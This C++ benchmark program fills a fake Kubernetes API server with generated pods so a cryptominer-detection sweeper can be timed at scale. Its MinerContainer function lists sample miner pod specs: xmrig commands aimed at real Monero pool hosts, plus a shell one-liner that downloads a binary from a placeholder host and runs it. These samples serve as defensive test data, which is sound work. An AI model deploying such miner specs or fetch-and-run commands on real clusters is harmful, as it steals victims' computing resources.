// bench-fake-apiserver: the test fake API server (test/fake_apiserver) loaded with a realistic
// mix of pods for the sweeper scale benchmark. The fake's own standalone executable loads one
// single-container pod shape; a cluster holds more varied pods, and the list pass's cost grows
// with their bytes and containers, so this one generates:
//   - pods spread over 40 namespaces, owned by ReplicaSets, with labels, annotations,
//     managedFields, tolerations, volumes and a Running status with containerStatuses
//   - 1 to 3 containers (an app, often a sidecar, sometimes a log shipper), each with 3 to 12
//     args and 4 to 16 env vars, plus init containers on some
//   - every --miner-every-th pod a miner, in five shapes (xmrig with a stratum+tcp URL, a shell
//     one-liner, the pool in an env var, a scheme-less `-o host:port`, stratum+ssl), so that a
//     plain "stratum+tcp" substring check (the Python baseline) finds only some of them.
// Deterministic: the same flags give the same bytes. Prints one line
//   ready url=... kubeconfig=... pods=N miners=M stratum_tcp_miners=K bytes=B
// and serves until SIGTERM or SIGINT.

#include <pthread.h>

#include <CLI/CLI.hpp>
#include <csignal>
#include <cstdint>
#include <iostream>
#include <string>
#include <vector>

#include "test/fake_apiserver/fake_apiserver.h"

namespace {

// A fixed-sequence generator (splitmix64), so the mix does not depend on the standard
// library's distributions.
class Rng {
 public:
  explicit Rng(std::uint64_t seed) : state_(seed) {}
  std::uint64_t Next() {
    std::uint64_t z = (state_ += 0x9e3779b97f4a7c15ULL);
    z = (z ^ (z >> 30)) * 0xbf58476d1ce4e5b9ULL;
    z = (z ^ (z >> 27)) * 0x94d049bb133111ebULL;
    return z ^ (z >> 31);
  }
  int Between(int lo, int hi) { return lo + static_cast<int>(Next() % (hi - lo + 1)); }

 private:
  std::uint64_t state_;
};

const char* const kNamespaces[] = {
    "shop",     "checkout", "payments", "search",   "catalog",  "inventory", "shipping", "auth",
    "accounts", "billing",  "reports",  "etl",      "ml-train", "ml-serve",  "frontend", "api",
    "gateway",  "cache",    "queue",    "notify",   "email",    "sms",       "media",    "cdn-edge",
    "logging",  "metrics",  "tracing",  "alerting", "ci",       "cd",        "registry", "vault",
    "ingress",  "dns",      "backup",   "batch",    "crm",      "support",   "partners", "sandbox"};
constexpr int kNamespaceCount = sizeof(kNamespaces) / sizeof(kNamespaces[0]);

const char* const kApps[] = {"web",     "api",    "worker",  "consumer", "scheduler", "indexer",
                             "gateway", "render", "resizer", "exporter", "sync",      "notifier"};

std::string Q(const std::string& s) { return "\"" + s + "\""; }

std::string Strings(const std::vector<std::string>& items) {
  std::string out = "[";
  for (std::size_t i = 0; i < items.size(); ++i) out += (i ? "," : "") + Q(items[i]);
  return out + "]";
}

struct Container {
  std::string name;
  std::string image;
  std::vector<std::string> command;
  std::vector<std::string> args;
  std::vector<std::pair<std::string, std::string>> env;
};

std::string ContainerJson(const Container& c, int port) {
  std::string out = "{\"name\":" + Q(c.name) + ",\"image\":" + Q(c.image);
  if (!c.command.empty()) out += ",\"command\":" + Strings(c.command);
  if (!c.args.empty()) out += ",\"args\":" + Strings(c.args);
  out += ",\"env\":[";
  for (std::size_t i = 0; i < c.env.size(); ++i) {
    out += (i ? "," : "") + std::string("{\"name\":") + Q(c.env[i].first) +
           ",\"value\":" + Q(c.env[i].second) + "}";
  }
  out += "]";
  if (port > 0) {
    out += ",\"ports\":[{\"containerPort\":" + std::to_string(port) +
           ",\"protocol\":\"TCP\"}],\"readinessProbe\":{\"httpGet\":{\"path\":\"/readyz\","
           "\"port\":" +
           std::to_string(port) + "},\"periodSeconds\":10}";
  }
  out +=
      ",\"resources\":{\"limits\":{\"memory\":\"512Mi\"},\"requests\":{\"cpu\":\"100m\","
      "\"memory\":\"128Mi\"}},\"volumeMounts\":[{\"name\":\"kube-api-access\",\"mountPath\":"
      "\"/var/run/secrets/kubernetes.io/serviceaccount\",\"readOnly\":true}],"
      "\"terminationMessagePath\":\"/dev/termination-log\",\"terminationMessagePolicy\":"
      "\"File\",\"imagePullPolicy\":\"IfNotPresent\"}";
  return out;
}

Container AppContainer(Rng& rng, const std::string& ns, const std::string& app) {
  Container c;
  c.name = app;
  c.image = "registry.example.com/" + ns + "/" + app + ":1." + std::to_string(rng.Between(0, 40)) +
            "." + std::to_string(rng.Between(0, 9));
  if (rng.Between(0, 2) == 0) c.command = {"/app/" + app};
  const int args = rng.Between(3, 12);
  for (int a = 0; a < args; ++a) {
    switch (a % 6) {
      case 0:
        c.args.push_back("--listen=0.0.0.0:" + std::to_string(8080 + a));
        break;
      case 1:
        c.args.push_back("--log-level=info");
        break;
      case 2:
        c.args.push_back("--db=postgres://" + app + "@postgres." + ns + ":5432/" + ns);
        break;
      case 3:
        c.args.push_back("--cache=redis." + ns + ".svc.cluster.local:6379");
        break;
      case 4:
        c.args.push_back("--workers=" + std::to_string(rng.Between(1, 32)));
        break;
      default:
        c.args.push_back("--config=/etc/" + app + "/config-" + std::to_string(a) + ".yaml");
    }
  }
  const int env = rng.Between(4, 16);
  for (int e = 0; e < env; ++e) {
    switch (e % 5) {
      case 0:
        c.env.emplace_back("SERVICE_" + std::to_string(e) + "_HOST",
                           "svc-" + std::to_string(e) + "." + ns + ".svc.cluster.local");
        break;
      case 1:
        c.env.emplace_back("OTEL_EXPORTER_OTLP_ENDPOINT", "http://otel-collector.tracing:4317");
        break;
      case 2:
        c.env.emplace_back("FEATURE_" + std::to_string(e), rng.Between(0, 1) ? "true" : "false");
        break;
      case 3:
        c.env.emplace_back("TZ", "UTC");
        break;
      default:
        c.env.emplace_back("TIMEOUT_" + std::to_string(e),
                           std::to_string(rng.Between(1, 120)) + "s");
    }
  }
  return c;
}

Container Sidecar() {
  Container c;
  c.name = "envoy";
  c.image = "envoyproxy/envoy:v1.28.0";
  c.args = {"-c", "/etc/envoy/envoy.yaml", "--service-cluster", "mesh", "--log-level", "warn"};
  c.env = {{"ENVOY_UID", "0"},
           {"ENVOY_ADMIN_PORT", "15000"},
           {"MESH_ID", "prod"},
           {"ISTIO_META_CLUSTER_ID", "eu-west-1"}};
  return c;
}

Container LogShipper() {
  Container c;
  c.name = "log-shipper";
  c.image = "fluent/fluent-bit:2.2.0";
  c.command = {"/fluent-bit/bin/fluent-bit"};
  c.args = {"-c", "/fluent-bit/etc/fluent-bit.conf", "--enable-hot-reload"};
  c.env = {{"FLUENT_ELASTICSEARCH_HOST", "elasticsearch.logging.svc.cluster.local"},
           {"FLUENT_ELASTICSEARCH_PORT", "9200"},
           {"BUFFER_SIZE", "5MB"},
           {"FLUSH_INTERVAL", "5"}};
  return c;
}

// Five shapes; shape 3 carries no "stratum+tcp" at all and shape 4 uses stratum+ssl.
Container MinerContainer(int shape) {
  Container c;
  c.name = "app";
  switch (shape) {
    case 0:
      c.image = "xmrig/xmrig:6.21.0";
      c.command = {"xmrig"};
      c.args = {"-o",
                "stratum+tcp://pool.supportxmr.com:3333",
                "-u",
                "44AFFq5kSiGBoZ4NMDwYtN1",
                "--donate-level",
                "1"};
      break;
    case 1:
      c.image = "alpine:3.19";
      c.command = {"/bin/sh", "-c",
                   "wget -qO /tmp/x https://example.invalid/x && chmod +x /tmp/x && /tmp/x -o "
                   "stratum+tcp://gulf.moneroocean.stream:10128 -u 4A1 -p w"};
      break;
    case 2:
      c.image = "registry.example.com/tools/runner:2.0";
      c.command = {"/usr/local/bin/runner"};
      c.args = {"--threads=4", "--url=stratum+tcp://xmr-eu1.nanopool.org:14444"};
      c.env = {{"POOL", "stratum+tcp://xmr-eu1.nanopool.org:14444"}};
      break;
    case 3:
      c.image = "registry.example.com/tools/cpuminer:1.0";
      c.command = {"cpuminer"};
      c.args = {"-a", "randomx", "-o", "pool.minexmr.com:4444", "-u", "wallet.worker"};
      break;
    default:
      c.image = "ubuntu:22.04";
      c.command = {"/opt/xmrig/xmrig"};
      c.args = {"--url=stratum+ssl://pool.hashvault.pro:443", "--tls", "--cpu-priority", "5"};
  }
  return c;
}

// `miner_shape` < 0 for an ordinary pod, else the miner shape (0..4).
std::string PodJson(Rng& rng, int index, int miner_shape) {
  const std::string ns = kNamespaces[rng.Between(0, kNamespaceCount - 1)];
  const std::string app = kApps[rng.Between(0, sizeof(kApps) / sizeof(kApps[0]) - 1)];
  const std::string rs = app + "-" + std::to_string(100000000 + (index / 7) % 900000000);
  const std::string name = rs + "-" + std::to_string(index);
  std::vector<Container> containers;
  std::vector<Container> init;
  if (miner_shape >= 0) {
    containers.push_back(MinerContainer(miner_shape));
  } else {
    containers.push_back(AppContainer(rng, ns, app));
    const int roll = rng.Between(0, 99);
    if (roll < 45) containers.push_back(Sidecar());
    if (roll < 20) containers.push_back(LogShipper());
    if (rng.Between(0, 9) == 0) {
      Container wait;
      wait.name = "wait-for-db";
      wait.image = "busybox:1.36";
      wait.command = {"/bin/sh", "-c", "until nc -z postgres." + ns + " 5432; do sleep 2; done"};
      init.push_back(wait);
    }
  }
  std::string spec = "{";
  if (!init.empty()) {
    spec += "\"initContainers\":[" + ContainerJson(init[0], 0) + "],";
  }
  spec += "\"containers\":[";
  for (std::size_t i = 0; i < containers.size(); ++i) {
    spec += (i ? "," : "") + ContainerJson(containers[i], i == 0 ? 8080 : 0);
  }
  spec +=
      "],\"volumes\":[{\"name\":\"kube-api-access\",\"projected\":{\"sources\":["
      "{\"serviceAccountToken\":{\"expirationSeconds\":3607,\"path\":\"token\"}}],"
      "\"defaultMode\":420}}],\"restartPolicy\":\"Always\",\"terminationGracePeriodSeconds\":30,"
      "\"dnsPolicy\":\"ClusterFirst\",\"serviceAccountName\":\"default\",\"nodeName\":\"node-" +
      std::to_string(index % 500) +
      "\",\"schedulerName\":\"default-scheduler\",\"priority\":0,\"tolerations\":["
      "{\"key\":\"node.kubernetes.io/not-ready\",\"operator\":\"Exists\",\"effect\":"
      "\"NoExecute\",\"tolerationSeconds\":300},{\"key\":\"node.kubernetes.io/unreachable\","
      "\"operator\":\"Exists\",\"effect\":\"NoExecute\",\"tolerationSeconds\":300}]}";
  std::string statuses;
  for (std::size_t i = 0; i < containers.size(); ++i) {
    statuses += (i ? "," : "") + std::string("{\"name\":") + Q(containers[i].name) +
                ",\"ready\":true,\"restartCount\":0,\"image\":" + Q(containers[i].image) +
                ",\"imageID\":\"docker-pullable://" + containers[i].image +
                "@sha256:0f1e2d3c4b5a69788796a5b4c3d2e1f00f1e2d3c4b5a69788796a5b4c3d2e1f0\","
                "\"containerID\":\"containerd://" +
                std::to_string(rng.Next()) +
                "\",\"started\":true,\"state\":{\"running\":{"
                "\"startedAt\":\"2026-11-27T08:00:00Z\"}}}";
  }
  return "{\"apiVersion\":\"v1\",\"kind\":\"Pod\",\"metadata\":{\"name\":" + Q(name) +
         ",\"generateName\":" + Q(rs + "-") + ",\"namespace\":" + Q(ns) +
         ",\"labels\":{\"app.kubernetes.io/name\":" + Q(app) +
         ",\"app.kubernetes.io/part-of\":" + Q(ns) +
         ",\"pod-template-hash\":\"6d4cf56db6\"},\"annotations\":{\"kubectl.kubernetes.io/"
         "restartedAt\":\"2026-11-27T07:59:00Z\"},\"ownerReferences\":[{\"apiVersion\":"
         "\"apps/v1\",\"kind\":\"ReplicaSet\",\"name\":" +
         Q(rs) +
         ",\"uid\":\"3f1c2b7a-0000-4000-8000-000000000000\",\"controller\":true,"
         "\"blockOwnerDeletion\":true}],\"managedFields\":[{\"manager\":\"kube-controller-"
         "manager\",\"operation\":\"Update\",\"apiVersion\":\"v1\",\"time\":"
         "\"2026-11-27T08:00:00Z\",\"fieldsType\":\"FieldsV1\",\"fieldsV1\":{\"f:metadata\":{"
         "\"f:generateName\":{},\"f:labels\":{\".\":{},\"f:app.kubernetes.io/name\":{},"
         "\"f:pod-template-hash\":{}},\"f:ownerReferences\":{}},\"f:spec\":{\"f:containers\":{}"
         "}}},{\"manager\":\"kubelet\",\"operation\":\"Update\",\"apiVersion\":\"v1\",\"time\":"
         "\"2026-11-27T08:00:05Z\",\"fieldsType\":\"FieldsV1\",\"fieldsV1\":{\"f:status\":{"
         "\"f:conditions\":{},\"f:containerStatuses\":{},\"f:podIP\":{}}},"
         "\"subresource\":\"status\"}]},\"spec\":" +
         spec +
         ",\"status\":{\"phase\":\"Running\",\"conditions\":[{\"type\":\"Initialized\","
         "\"status\":\"True\",\"lastTransitionTime\":\"2026-11-27T08:00:00Z\"},{\"type\":"
         "\"Ready\",\"status\":\"True\",\"lastTransitionTime\":\"2026-11-27T08:00:05Z\"},{"
         "\"type\":\"ContainersReady\",\"status\":\"True\",\"lastTransitionTime\":"
         "\"2026-11-27T08:00:05Z\"},{\"type\":\"PodScheduled\",\"status\":\"True\","
         "\"lastTransitionTime\":\"2026-11-27T08:00:00Z\"}],\"hostIP\":\"10.0." +
         std::to_string(index % 250) + ".10\",\"podIP\":\"10.244." + std::to_string(index % 250) +
         "." + std::to_string(index % 200 + 2) +
         "\",\"startTime\":\"2026-11-27T08:00:00Z\",\"qosClass\":\"Burstable\","
         "\"containerStatuses\":[" +
         statuses + "]}}";
}

}  // namespace

int main(int argc, char** argv) {
  namespace fake = stratum_guard::fake_apiserver;
  CLI::App app{"The fake Kubernetes API server loaded with a realistic pod mix (benchmarks)."};
  int pods = 10000;
  int miner_every = 2000;
  std::uint64_t seed = 42;
  std::string dir = ".";
  app.add_option("--pods", pods, "Pods to load")
      ->capture_default_str()
      ->check(CLI::Range(0, 10000000));
  app.add_option("--miner-every", miner_every, "Every N-th pod is a miner (0: none)")
      ->capture_default_str()
      ->check(CLI::Range(0, 10000000));
  app.add_option("--seed", seed, "Seed of the mix")->capture_default_str();
  app.add_option("--dir", dir, "Where to write the kubeconfig")->capture_default_str();
  CLI11_PARSE(app, argc, argv);

  // Blocked before any thread starts, so that only sigwait below receives them.
  sigset_t signals;
  sigemptyset(&signals);
  sigaddset(&signals, SIGTERM);
  sigaddset(&signals, SIGINT);
  pthread_sigmask(SIG_BLOCK, &signals, nullptr);

  fake::FakeApiServer server;
  Rng rng(seed);
  std::vector<std::string> batch;
  int miners = 0;
  int stratum_tcp = 0;
  std::uint64_t bytes = 0;
  for (int i = 0; i < pods; ++i) {
    const bool miner = miner_every > 0 && i % miner_every == miner_every / 2;
    const int shape = miner ? miners % 5 : -1;
    batch.push_back(PodJson(rng, i, shape));
    bytes += batch.back().size();
    if (miner) {
      ++miners;
      if (shape <= 2) ++stratum_tcp;
    }
    if (batch.size() == 10'000) {
      server.LoadPods(batch);
      batch.clear();
    }
  }
  server.LoadPods(batch);
  server.Start();
  fake::KubeconfigForm form;
  const std::string kubeconfig = fake::WriteKubeconfig(server, dir, form);
  std::cout << "ready url=" << server.server_url() << " kubeconfig=" << kubeconfig
            << " pods=" << server.pod_count() << " miners=" << miners
            << " stratum_tcp_miners=" << stratum_tcp << " bytes=" << bytes << std::endl;
  int signal = 0;
  sigwait(&signals, &signal);
  server.Stop();
  return 0;
}
